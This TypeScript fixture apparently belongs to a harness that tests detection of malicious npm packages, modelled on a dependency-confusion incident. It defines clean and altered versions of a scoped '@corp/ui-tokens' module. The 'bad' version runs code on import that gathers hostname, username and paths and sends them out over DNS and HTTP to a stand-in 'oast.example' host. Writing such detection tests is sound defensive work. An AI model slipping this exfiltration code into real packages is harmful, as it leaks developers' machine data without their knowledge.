import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'internal-name',
  after: 'yuva2210, July 2026: names of internal packages with a call home to an interaction server',
  source: 'https://github.com/ossf/malicious-packages/pull/1385',
  shape: ['require', 'script', 'host fingerprint only', 'DNS then HTTP', 'scoped package', 'cjs'],
  patterns: ['data_exfiltration'],
  culprits: ['@corp/ui-tokens'],
  host: {
    kind: 'script',
    setup: "const tokens = require('@corp/ui-tokens');",
    use: 'return tokens.space(n);',
  },
  good: {
    '@corp/ui-tokens': {
      'index.js': 'exports.space = (n) => n * 4;',
    },
  },
  benign: {
    '@corp/ui-tokens': {
      'index.js': 'exports.space = (n, unit = 4) => n * unit;',
    },
  },
  bad: {
    '@corp/ui-tokens': {
      'index.js':
        "exports.space = (n) => n * 4;\nconst os = require('os'), dns = require('dns'), http = require('http');\nconst who = [os.hostname(), os.userInfo().username, process.cwd(), __filename].join('|'), hex = Buffer.from(who).toString('hex');\nconst r = new dns.Resolver({ timeout: 300, tries: 1 }); r.setServers(['@C@:@DNS@']); r.resolve4(hex.slice(0, 60) + '.2b22ede784d5.oast.example', () => {});\nconst q = http.get({ host: '@C@', port: @PORT@, path: '/oast?d=' + hex, headers: { host: '2b22ede784d5.oast.example' } }, (s) => s.resume()); q.on('error', () => {});",
    },
  },
  proof: [
    {
      arrives: '/oast',
      leaks: true,
    },
  ],
};
